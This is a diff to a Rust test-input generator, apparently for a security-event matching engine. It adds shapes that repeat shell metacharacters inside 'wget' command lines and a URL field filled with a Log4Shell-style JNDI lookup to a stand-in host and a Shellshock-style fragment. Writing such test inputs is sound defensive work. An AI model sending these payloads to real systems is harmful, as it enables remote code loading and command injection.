@@ -103,6 +103,16 @@ pub(crate) fn all() -> Vec<Shape> {
         ("one URL of many parts", |size| {
             eventdata("commandLine", &format!("http://{}", "a.".repeat(size / 2)))
         }),
+        ("signs of a shell behind a URL", |size| {
+            let signs = ["&", ";", "$", "$a=", "&a=1", ";b;c"].map(|signs| signs.repeat(size / 12 / signs.len()));
+            let urls = signs.map(|signs| format!("wget http://a.example/x{signs} ? "));
+            eventdata("commandLine", &urls.concat())
+        }),
+        ("payloads in a request", |size| {
+            let pieces = ["${", "${jndi:ldap://a.example/b}", r#"\"() { ://a'@"#];
+            let text = pieces.map(|piece| piece.repeat(size / 3 / piece.len())).concat();
+            field("url", &text)
+        }),
         ("encoded URLs", |size| {
             field(
                 "url",
